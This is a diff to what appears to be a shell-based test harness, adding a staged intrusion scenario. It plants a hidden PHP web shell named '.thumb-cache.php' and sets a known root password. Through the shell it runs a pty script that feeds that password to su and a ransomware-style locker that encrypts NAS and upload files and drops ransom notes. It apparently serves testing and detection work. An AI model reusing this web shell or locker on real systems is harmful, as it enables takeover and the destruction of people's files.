@@ -2812,3 +2812,55 @@ sc_b111_ssh_sudo_update_ca_certificates_fresh() {
   echo "links $(find /etc/ssl/certs -type l | wc -l)" > $CASE/facts
   sshx deploy 'sudo update-ca-certificates --fresh 2>&1 | tail -2; ls /etc/ssl/certs | wc -l' >> $CASE/facts
 }
+pre_h91_webshell_su_root_password_locker() {
+  rm -rf /var/www/shop/public; install -d -o root -g root -m 755 /var/www/shop/public
+  echo '<?php echo "<h1>Shop</h1>";' > /var/www/shop/public/index.php
+  # a web shell an earlier upload bug left behind (the intrusion itself is not part of the story)
+  echo '<?php if (isset($_POST["c"])) { header("Content-Type: text/plain"); system($_POST["c"] . " 2>&1"); }' > /var/www/shop/public/.thumb-cache.php
+  # the stolen secret: root's password (an admin reused it in a config the intruder read); put back by post_
+  grep '^root:' /etc/shadow | cut -d: -f2 > /var/tmp/.h91-roothash; echo 'root:Rt#shop-2026' | chpasswd
+  H91_PORT=$(python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])')
+}
+sc_h91_webshell_su_root_password_locker() {
+  echo "files $(( $(find /srv/nas/share -type f | wc -l) + $(find /var/www/shop/uploads -type f | wc -l) )) dirs $(( $(find /srv/nas/share -type d | wc -l) + $(find /var/www/shop/uploads -type d | wc -l) ))" > $CASE/facts
+  setsid runuser -u www-data -- php -S 127.0.0.1:$H91_PORT -t /var/www/shop/public </dev/null >/dev/null 2>&1 3>&- 9>&- &
+  local web=$!
+  for i in $(seq 50); do curl -s -o /dev/null "http://127.0.0.1:$H91_PORT/" && break; sleep 0.2; done
+  local su_py lk
+  # a pty for su (it reads the password from a terminal), the password typed at its prompt
+  su_py=$(base64 -w0 <<'P'
+import os, pty, sys
+pid, fd = pty.fork()
+if pid == 0:
+    os.execvp('su', ['su', '-', '-c', 'bash /tmp/.lk91.sh'])
+buf = b''
+while b'assword' not in buf:
+    buf += os.read(fd, 1024)
+os.write(fd, b'Rt#shop-2026\n')
+while True:
+    try:
+        d = os.read(fd, 4096)
+    except OSError:
+        break
+    if not d:
+        break
+    sys.stdout.write(d.decode(errors='replace'))
+os.waitpid(pid, 0)
+P
+)
+  lk=$(base64 -w0 <<'S'
+for top in /srv/nas/share /var/www/shop/uploads; do
+  find "$top" -type f | while read -r f; do openssl enc -aes-256-ctr -pbkdf2 -pass pass:Pv-91 -in "$f" -out "$f.pv91" && rm -f "$f"; done
+  find "$top" -type d -exec sh -c 'echo "Root was taken. Your files are encrypted: pv91@onionmail.example" > "$1/PV91-RECOVER.txt"' _ {} \;
+done
+echo locked
+S
+)
+  curl -s --max-time 20 --data-urlencode "c=id; echo $lk | base64 -d > /tmp/.lk91.sh; echo $su_py | base64 -d > /tmp/.p91.py" "http://127.0.0.1:$H91_PORT/.thumb-cache.php"
+  curl -s --max-time 120 --data-urlencode "c=python3 /tmp/.p91.py; rm -f /tmp/.p91.py /tmp/.lk91.sh" "http://127.0.0.1:$H91_PORT/.thumb-cache.php" | tail -2 >> $CASE/facts
+  sleep 1; kill -- -$web 2>/dev/null; sleep 0.5
+}
+post_h91_webshell_su_root_password_locker() {
+  usermod -p "$(cat /var/tmp/.h91-roothash)" root; rm -f /var/tmp/.h91-roothash /tmp/.p91.py /tmp/.lk91.sh
+  rm -rf /var/www/shop/public
+}
